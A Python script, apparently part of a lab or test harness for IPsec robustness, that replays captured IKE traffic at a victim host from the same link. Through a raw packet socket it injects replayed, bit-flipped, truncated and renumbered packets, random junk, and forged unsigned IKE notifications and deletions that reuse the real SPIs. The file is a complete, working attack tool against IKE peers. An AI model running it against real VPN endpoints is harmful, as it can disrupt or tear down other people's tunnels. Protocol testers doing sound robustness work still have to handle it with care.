"""Plays one end of an IKE SA without its keys, from the same link (a program for the attacker's
namespace): what was overheard comes again, whole, bent, cut, renumbered; nonsense; and errors in
clear that carry the right SPIs.

    ike_forger.py CAPTURE VICTIM VICTIM-MAC SECONDS RATE SEED

Prints how many of each kind were sent.
"""

import json
import random
import socket
import struct
import sys
import time

ETHERNET, UDP = 14, 8
HEADER = 28  # of IKE: RFC 7296 3.1
INFORMATIONAL, RESPONSE, INITIATOR = 37, 0x20, 0x08
NOTIFY, DELETE = 41, 42
AUTHENTICATION_FAILED, INVALID_SPI, NO_PROPOSAL_CHOSEN = 24, 11, 14


def overheard(path, victim):
    """The Ethernet frames with IKE to the victim, IPv4 without options."""
    with open(path, "rb") as file:
        data = file.read()
    at, frames = 24, []
    while at + 16 <= len(data):
        length = struct.unpack_from("<I", data, at + 8)[0]
        frame = data[at + 16:at + 16 + length]
        at += 16 + length
        if (len(frame) >= ETHERNET + 20 + UDP + HEADER and frame[12:15] == b"\x08\x00\x45"
                and frame[30:34] == socket.inet_aton(victim)):
            frames.append(frame)
    return frames


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def again(frame, payload):
    """The frame with another payload; UDP over IPv4 needs no checksum."""
    ip = bytearray(frame[ETHERNET:ETHERNET + 20])
    struct.pack_into("!H", ip, 2, 20 + UDP + len(payload))
    struct.pack_into("!H", ip, 10, 0)
    struct.pack_into("!H", ip, 10, checksum(bytes(ip)))
    udp = frame[ETHERNET + 20:ETHERNET + 24] + struct.pack("!HH", UDP + len(payload), 0)
    return frame[:ETHERNET] + bytes(ip) + udp + payload


def bent(r, payload):
    out = bytearray(payload)
    out[r.randrange(len(out))] ^= 1 << r.randrange(8)
    return bytes(out)


def renumbered(r, payload):
    return payload[:20] + struct.pack("!I", r.randrange(40)) + payload[24:]


def in_clear(r, payload):
    """An error, or a deletion, that nobody signed."""
    response = r.random() < 0.5
    if r.random() < 0.3:
        body = struct.pack("!BBHBBH", 0, 0, 8, 1, 0, 0)
        first = DELETE
    else:
        error = r.choice((AUTHENTICATION_FAILED, INVALID_SPI, NO_PROPOSAL_CHOSEN))
        body = struct.pack("!BBHBBH", 0, 0, 8, 0, 0, error)
        first = NOTIFY
    flags = (payload[19] & INITIATOR) | (RESPONSE if response else 0)
    exchange = r.choice((34, 35, 36, INFORMATIONAL))
    return payload[:16] + struct.pack("!BBBBII", first, 0x20, exchange, flags, r.randrange(40),
                                      HEADER + len(body)) + body


KINDS = {
    "replayed": lambda r, payload: payload,
    "bent": bent,
    "cut": lambda r, payload: payload[:r.randrange(len(payload))],
    "renumbered": renumbered,
    "in clear": in_clear,
    "nonsense": lambda r, payload: r.randbytes(r.randrange(600)),
}


def main():
    path, victim, mac, seconds, rate, seed = sys.argv[1:]
    r = random.Random(int(seed))
    frames = overheard(path, victim)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    sent = dict.fromkeys(KINDS, 0)
    start = time.monotonic()
    while (passed := time.monotonic() - start) < float(seconds):
        if sum(sent.values()) >= passed * float(rate):
            time.sleep(0.002)
            continue
        frame, kind = r.choice(frames), r.choice(list(KINDS))
        payload = KINDS[kind](r, frame[ETHERNET + 20 + UDP:])
        link.send(bytes.fromhex(mac.replace(":", "")) + link.getsockname()[4]
                  + again(frame, payload)[12:])
        sent[kind] += 1
    print(json.dumps(sent))


if __name__ == "__main__":
    main()
